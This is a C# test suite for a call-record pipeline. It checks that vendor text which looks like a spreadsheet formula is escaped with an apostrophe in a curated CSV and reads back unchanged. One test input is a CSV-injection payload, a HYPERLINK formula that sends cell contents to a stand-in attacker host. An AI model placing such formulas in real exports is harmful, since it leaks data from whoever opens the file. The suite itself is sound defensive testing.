using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using CdrFunctions.Pipeline.Model;
using CdrFunctions.Pipeline.Normalize;
using CdrFunctions.Tests.Infra;
using CdrFunctions.Tests.Integration;
using DuckDB.NET.Data;

namespace CdrFunctions.Tests.Security;

/// <summary>
/// Formula injection (OWASP CSV injection): vendor text that starts like a formula reaches the curated CSV with a
/// leading apostrophe, typed number and E.164 columns are untouched, and both our reader and Calls.pq's rule give
/// back the original text. Cells are read by DuckDB, which shares no code with our writer.
/// </summary>
[Collection(AzuriteCollection.Name)]
public partial class CuratedCsvInjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";

    public static TheoryData<string> Formulas() => new(
        Hyperlink, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tcmd", "\r=1+1", "'=already quoted", "'plain apostrophe");

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task Text_cells_that_start_like_a_formula_get_an_apostrophe_and_read_back_as_written(string text)
    {
        var call = Call(text);
        var cells = await CellsAsync(call);

        foreach (var column in new[] { "callId", "agentId", "agentName", "queue", "recordingUrl" })
        {
            Assert.Equal("'" + text, cells[column]);
        }
        // Typed columns are left alone: E.164 numbers (which start with '+'), negative-looking numbers are ints.
        Assert.Equal("+905321234567", cells["fromNumber"]);
        Assert.Equal("905321234567", cells["toNumber"]);
        Assert.Equal("12", cells["queueSeconds"]);
        Assert.Equal("2026-11-22T10:00:00Z", cells["startUtc"]);

        using var buffer = new MemoryStream();
        await CuratedCsv.WriteAsync([call], buffer, CancellationToken.None);
        buffer.Position = 0;
        Assert.Equal(call, Assert.Single(await CuratedCsv.ReadAsync(buffer, CancellationToken.None)));

        // No text cell starts like a formula any more, and Calls.pq's rule (drop one leading apostrophe of a text
        // column) gives the original back.
        var textCells = cells.Where(c => PowerQueryTextColumns().Contains(c.Key) && c.Key is not ("fromNumber" or "toNumber")).ToList();
        Assert.Equal(10, textCells.Count);
        Assert.All(textCells, c => Assert.DoesNotMatch(FormulaStart(), c.Value));
        Assert.Equal(text, PowerQueryUnescape(cells["agentName"]));
        Assert.Equal("+905321234567", PowerQueryUnescape(cells["fromNumber"]));
    }

    [Fact]
    public async Task Harmless_text_and_non_numbers_in_number_columns()
    {
        var call = Call("Müşteri Hizmetleri") with { FromNumber = "=1+1", ToNumber = null };
        var cells = await CellsAsync(call);
        Assert.Equal("Müşteri Hizmetleri", cells["queue"]);
        Assert.Equal("'=1+1", cells["fromNumber"]);
        Assert.Equal("", cells["toNumber"]);
        Assert.Equal("{\"note\":\"Müşteri Hizmetleri\"}", cells["extras"]);
    }

    [Fact]
    public void Calls_pq_drops_the_escape_apostrophe_of_every_text_column()
    {
        var pq = File.ReadAllText(RepositoryFiles.PathOf("powerbi", "Calls.pq"));
        Assert.Contains("Text.StartsWith(_, \"'\")", pq, StringComparison.Ordinal);
        Assert.Contains("Text.Middle(_, 1)", pq, StringComparison.Ordinal);
        Assert.Matches(@"TextColumns\s*=\s*List\.Transform\(List\.Select\(ColumnTypes, each Type\.Is\(_\{1\}, type text\)\)", pq);
        // The step runs on the combined table and its result is what gets typed.
        Assert.Matches(@"Typed\s*=\s*Table\.TransformColumnTypes\(Unescaped,", pq);
    }

    [Fact]
    public async Task A_pushed_DeepCall_report_with_a_formula_agent_reaches_the_curated_csv_escaped()
    {
        await using var h = await DeepCallHarness.StartAsync();
        var (hook, _) = await h.StartWebhookAsync();
        using var http = new HttpClient();
        var pushed = h.Simulator.ValidCallsBetween(new DateTimeOffset(2026, 11, 21, 21, 0, 0, TimeSpan.Zero), new DateTimeOffset(2026, 11, 21, 23, 0, 0, TimeSpan.Zero))
            .First(c => c.CallType == "IBD");
        var report = JsonNode.Parse(pushed.PushReportJson(h.Simulator.State.Options.UserId))!.AsObject();
        report["masterAgent"] = Hyperlink;
        using (var response = await http.PostAsync(DeepCallHarness.WebhookUrl(hook), new StringContent(report.ToJsonString(), Encoding.UTF8, "application/json")))
        {
            Assert.Equal(200, (int)response.StatusCode);
        }
        var blob = Assert.Single(await h.RawBlobsAsync("deepcall/"));
        await h.Normalizer.NormalizeAsync(blob, CancellationToken.None);

        var curated = new List<string>();
        // The CSV only: the Parquet file beside it is typed and never escaped.
        await foreach (var item in h.Storage.Curated.GetBlobsAsync())
        {
            if (!item.Name.EndsWith(".csv", StringComparison.Ordinal))
            {
                continue;
            }
            curated.Add((await h.Storage.Curated.GetBlobClient(item.Name).DownloadContentAsync()).Value.Content.ToString());
        }
        var cells = ReadCells(Assert.Single(curated));
        Assert.Equal("'" + Hyperlink, cells["agentId"]);
        Assert.Equal(pushed.CustomerE164, cells["fromNumber"]);
        Assert.Equal(Hyperlink, (await h.Lookup.GetAsync("deepcall", pushed.ClId, CancellationToken.None))!.AgentId);
    }

    private static CallRecord Call(string text) => new()
    {
        Vendor = "deepcall",
        CallId = text,
        Direction = CallDirection.Inbound,
        FromNumber = "+905321234567",
        ToNumber = "905321234567",
        StartUtc = new DateTimeOffset(2026, 11, 22, 10, 0, 0, TimeSpan.Zero),
        QueueSeconds = 12,
        Outcome = CallOutcome.Answered,
        AgentId = text,
        AgentName = text,
        Queue = text,
        RecordingUrl = text,
        RawBlob = "deepcall/2026/11/22/push-1.json",
        Extras = CallExtras.FromJson("{\"note\":\"Müşteri Hizmetleri\"}"),
    };

    private static async Task<Dictionary<string, string>> CellsAsync(CallRecord call)
    {
        using var buffer = new MemoryStream();
        await CuratedCsv.WriteAsync([call], buffer, CancellationToken.None);
        return ReadCells(Encoding.UTF8.GetString(buffer.ToArray()));
    }

    /// <summary>The one data row's cells, as text, the way DuckDB's CSV reader sees them.</summary>
    private static Dictionary<string, string> ReadCells(string csv)
    {
        var file = Path.GetTempFileName();
        try
        {
            File.WriteAllText(file, csv, new UTF8Encoding(false));
            using var db = new DuckDBConnection("Data Source=:memory:");
            db.Open();
            using var command = db.CreateCommand();
            command.CommandText = $"SELECT * FROM read_csv('{file}', header = true, all_varchar = true, auto_detect = false, delim = ',', quote = '\"', escape = '\"', columns = {{{string.Join(", ", CuratedCsv.Columns.Select(c => $"'{c}': 'VARCHAR'"))}}})";
            using var reader = command.ExecuteReader();
            Assert.True(reader.Read());
            var cells = Enumerable.Range(0, reader.FieldCount).ToDictionary(reader.GetName, i => reader.IsDBNull(i) ? "" : reader.GetString(i));
            Assert.False(reader.Read());
            return cells;
        }
        finally
        {
            File.Delete(file);
        }
    }

    private static string PowerQueryUnescape(string cell) => cell.StartsWith('\'') ? cell[1..] : cell;

    private static HashSet<string> PowerQueryTextColumns()
    {
        var pq = File.ReadAllText(RepositoryFiles.PathOf("powerbi", "Calls.pq"));
        return TextColumnPattern().Matches(pq).Select(m => m.Groups[1].Value).ToHashSet(StringComparer.Ordinal);
    }

    [GeneratedRegex("""\{"(\w+)", type text\}""", RegexOptions.CultureInvariant)]
    private static partial Regex TextColumnPattern();

    [GeneratedRegex("^[=+\\-@\t\r]", RegexOptions.CultureInvariant)]
    private static partial Regex FormulaStart();
}
